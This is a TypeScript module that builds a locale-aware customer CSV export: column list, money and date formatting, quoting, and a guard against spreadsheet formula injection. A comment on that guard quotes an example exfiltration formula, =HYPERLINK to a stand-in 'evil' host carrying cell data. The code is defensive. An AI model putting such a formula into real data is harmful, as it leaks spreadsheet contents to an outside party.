// The customer CSV's columns and how each value is written, independent of the database (unit
// tested). Excel is the main consumer: pt-BR Excel splits on ";" and reads "1234,56"; English
// Excel splits on "," and reads "1234.56". Money is a plain decimal in the store's currency (no
// symbol, no thousands separator) beside a currency column; timestamps are ISO 8601 in UTC, dates
// YYYY-MM-DD.
import { stringify } from "csv-stringify/sync";
import { currencyDigits } from "#app/core/money.ts";
import { churnBand } from "#app/core/analytics/segments.ts";
import type { Locale } from "#app/i18n/index.ts";

/** One row as the export query returns it. */
export interface CustomerExportRow {
  id: number;
  platformId: string;
  email: string | null;
  phone: string | null;
  firstName: string | null;
  lastName: string | null;
  taxId: string | null;
  birthDate: Date | null;
  gender: string | null;
  locale: string | null;
  city: string | null;
  province: string | null;
  zip: string | null;
  country: string | null;
  acceptsEmailMarketing: boolean;
  acceptsSmsMarketing: boolean;
  consentUpdatedAt: Date | null;
  ordersCount: number | null;
  revenueMinor: bigint | null;
  avgOrderMinor: bigint | null;
  firstOrderAt: Date | null;
  lastOrderAt: Date | null;
  rfmSegment: string | null;
  rScore: number | null;
  fScore: number | null;
  mScore: number | null;
  cluster: number | null;
  predictedClvMinor: bigint | null;
  churnRisk: number | null;
  tags: string[];
  platformCreatedAt: Date | null;
}

export const EXPORT_COLUMNS = [
  "id", "platformId", "firstName", "lastName", "email", "phone", "taxId", "birthDate", "gender", "locale",
  "city", "province", "zip", "country", "acceptsEmailMarketing", "acceptsSmsMarketing", "consentUpdatedAt",
  "ordersCount", "revenue", "averageOrder", "currency", "firstOrderAt", "lastOrderAt",
  "rfmSegment", "rScore", "fScore", "mScore", "cluster", "predictedClv", "churnRisk", "churnBand", "tags", "createdAt",
] as const;
export type ExportColumn = (typeof EXPORT_COLUMNS)[number];

export interface CsvFormat {
  locale: Locale;
  delimiter: ";" | ",";
  decimal: "," | ".";
}

export function csvFormat(locale: Locale): CsvFormat {
  return locale === "pt-BR" ? { locale, delimiter: ";", decimal: "," } : { locale, delimiter: ",", decimal: "." };
}

// currencyDigits builds an Intl.NumberFormat (tens of µs): once per currency, not per value.
const digitsCache = new Map<string, number>();
const digitsOf = (currency: string) => digitsCache.get(currency) ?? digitsCache.set(currency, currencyDigits(currency)).get(currency)!;

/** Exact decimal text of minor units (no float): 123456n BRL → "1234.56" / "1234,56"; 500n JPY → "500". */
export function minorToDecimal(minor: bigint, currency: string, decimal: "," | "."): string {
  const digits = digitsOf(currency);
  const negative = minor < 0n;
  const abs = negative ? -minor : minor;
  if (digits === 0) return `${negative ? "-" : ""}${abs}`;
  const scale = 10n ** BigInt(digits);
  const frac = (abs % scale).toString().padStart(digits, "0");
  return `${negative ? "-" : ""}${abs / scale}${decimal}${frac}`;
}

export interface RowLabels {
  yes: string;
  no: string;
  segment(key: string): string;
  churn(band: "low" | "medium" | "high"): string;
}

/**
 * CSV formula injection (OWASP): a spreadsheet runs a cell that starts with = + - @ (or a tab or
 * carriage return before one) as a formula, e.g. a first name `=HYPERLINK("http://evil/?"&A1)`.
 * Text that came from customers or the platform gets a leading apostrophe then, so it is shown as
 * text. Our own numbers, dates and labels are never guarded (a refund total "-12,50" stays a number).
 */
export function guardFormula(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

const iso = (d: Date | null) => (d ? d.toISOString() : "");
const day = (d: Date | null) => (d ? d.toISOString().slice(0, 10) : "");

/** A row's values in EXPORT_COLUMNS order, as text. */
export function rowValues(row: CustomerExportRow, currency: string, format: CsvFormat, labels: RowLabels): string[] {
  const money = (m: bigint | null) => (m === null ? "" : minorToDecimal(m, currency, format.decimal));
  const bool = (b: boolean) => (b ? labels.yes : labels.no);
  const num = (n: number | null) => (n === null ? "" : String(n));
  const text = (v: string | null) => guardFormula(v ?? "");
  const values: Record<ExportColumn, string> = {
    id: String(row.id),
    platformId: text(row.platformId),
    firstName: text(row.firstName),
    lastName: text(row.lastName),
    email: text(row.email),
    phone: text(row.phone),
    taxId: text(row.taxId),
    birthDate: day(row.birthDate),
    gender: text(row.gender),
    locale: text(row.locale),
    city: text(row.city),
    province: text(row.province),
    zip: text(row.zip),
    country: text(row.country),
    acceptsEmailMarketing: bool(row.acceptsEmailMarketing),
    acceptsSmsMarketing: bool(row.acceptsSmsMarketing),
    consentUpdatedAt: iso(row.consentUpdatedAt),
    ordersCount: String(row.ordersCount ?? 0),
    revenue: money(row.revenueMinor ?? 0n),
    averageOrder: money(row.avgOrderMinor ?? 0n),
    currency,
    firstOrderAt: iso(row.firstOrderAt),
    lastOrderAt: iso(row.lastOrderAt),
    rfmSegment: row.rfmSegment ? labels.segment(row.rfmSegment) : "",
    rScore: num(row.rScore),
    fScore: num(row.fScore),
    mScore: num(row.mScore),
    cluster: num(row.cluster),
    predictedClv: money(row.predictedClvMinor),
    churnRisk: row.churnRisk === null ? "" : row.churnRisk.toFixed(4).replace(".", format.decimal),
    churnBand: row.churnRisk === null ? "" : labels.churn(churnBand(row.churnRisk)),
    tags: text(row.tags.join(", ")),
    createdAt: iso(row.platformCreatedAt),
  };
  return EXPORT_COLUMNS.map((c) => values[c]);
}

/** CSV text of some records (RFC 4180 quoting of the delimiter, quotes and line breaks). */
export function csvLines(records: string[][], format: CsvFormat): string {
  // csv-stringify quotes the record delimiter ("\r\n") but not a lone "\n" inside a value: match it too.
  return stringify(records, { delimiter: format.delimiter, record_delimiter: "\r\n", quoted_match: /[\r\n]/ });
}

/** Excel opens UTF-8 correctly only with a byte-order mark. */
export const UTF8_BOM = "\uFEFF";
